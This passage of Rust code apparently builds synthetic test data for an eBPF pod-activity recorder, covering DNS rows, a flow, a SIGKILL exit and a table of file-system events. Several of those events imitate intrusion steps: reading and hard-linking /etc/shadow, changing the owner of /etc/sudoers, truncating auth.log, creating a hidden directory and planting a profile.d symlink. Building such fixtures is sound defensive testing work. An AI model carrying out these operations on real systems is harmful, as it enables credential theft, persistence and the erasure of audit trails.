    w.dns(t + 5 * S + 2, c, &tool, 702, "lost.example", 28, None, 0, &[]);
    w.dns(t + 5 * S + 3, c, &tool, 703, "late.example", 1, Some(1_000_000), 0, &["late.example A 203.0.113.1 ttl=60"]);
    if let Some(r) = w.b.dns.rows.last_mut() {
        r.raw.status = "answer_only";
        r.raw.question = None;
    }
    w.dns(t + 5 * S + 4, c, &tool, 704, "pending.example", 1, None, 0, &[]);
    if let Some(r) = w.b.dns.rows.last_mut() {
        r.raw.status = "pending";
    }
    // Every file operation, and an open the kernel refused.
    use podtrail_ebpf::{FILE_WHY_DEVICE, FILE_WHY_EXEC_BIT, FILE_WHY_HIDDEN, FILE_WHY_WATCHED};
    let at = u64::MAX - 99; // AT_FDCWD
    let watched = (FILE_WHY_WATCHED, 0, 0);
    let ops = [
        ("openat", "open", "/etc/passwd", None, [at, 0, 0o1001, 0, 0, 0], 0o1001, watched, Some(88001)),
        ("openat", "open", "/etc/new.conf", None, [at, 0, 0o1101, 0o644, 0, 0], 0o1101, watched, Some(88002)),
        ("openat", "read", "/etc/shadow", None, [at, 0, 0, 0, 0, 0], 0, (podtrail_ebpf::FILE_WHY_READ, 0, 0), Some(88003)),
        ("unlinkat", "unlink", "/etc/new.conf", None, [at, 0, 0, 0, 0, 0], 0, watched, None),
        ("mkdirat", "mkdir", "/tmp/.cache", None, [at, 0, 0o755, 0, 0, 0], 0, (FILE_WHY_HIDDEN, 0, 0), None),
        ("unlinkat", "rmdir", "/etc/old.d", None, [at, 0, 0x200, 0, 0, 0], 0, watched, None),
        ("renameat2", "rename", "/etc/a.conf", Some("/etc/b.conf"), [at, 0, at, 0, 0, 0], 0, watched, None),
        ("fchmodat", "chmod", "/tmp/tool", None, [at, 0, 0o755, 0, 0, 0], 0, (FILE_WHY_EXEC_BIT, 0, 0), None),
        ("fchownat", "chown", "/etc/sudoers", None, [at, 0, 1000, 1000, 0, 0], 0, watched, None),
        ("setxattr", "setxattr", "/tmp/tool", Some("user.note"), [0, 0, 0, 4, 0, 0], 0, watched, None),
        ("linkat", "link", "/etc/shadow", Some("/tmp/s"), [at, 0, at, 0, 0, 0], 0, watched, None),
        ("symlinkat", "symlink", "/etc/profile.d/x.sh", Some("/tmp/x.sh"), [0, at, 0, 0, 0, 0], 0, watched, None),
        ("truncate", "truncate", "/var/log/auth.log", None, [0, 0, 0, 0, 0, 0], 0, watched, None),
        ("mknodat", "mknod", "/tmp/mem", None, [at, 0, 0o20600, 0x0101, 0, 0], 0, (FILE_WHY_DEVICE, 0, 0), None),
    ];
    for (i, (syscall, op, path, path2, args, flags, why, inode)) in ops.into_iter().enumerate() {
        w.file(t + 6 * S + i as i64 * 1000, c, &tool, syscall, op, path, path2, args, flags, why, inode);
    }
    w.file(t + 7 * S, c, &tool, "openat", "open", "/etc/crontab", None, [at, 0, 0o1001, 0, 0, 0], 0o1001, watched, None);
    if let Some(r) = w.b.files.rows.last_mut() {
        r.raw.result = -13; // EACCES
    }
    // A UDP flow the peer began, and the tool killed by SIGKILL.
    w.flow(t + 8 * S, S, c, &tool, 920, 17, ("10.244.1.8", 9999), (1, 10), (3, 300));
    if let Some(r) = w.b.flows.rows.last_mut() {
        r.delta.val.flags |= podtrail_ebpf::FLOW_FIRST_IN as u16;
    }
    w.exit(t + 9 * S, t + S, Some(c), &tool, 0);
    if let Some(r) = w.b.exit.rows.last_mut() {
        r.raw.signal = 9;
    }
    for (table, batch) in podtrail_recorder::batch::build(&w.b, NODE)? {
        store.append(table, batch)?;
    }
    store.close()?;
    Ok(())
}
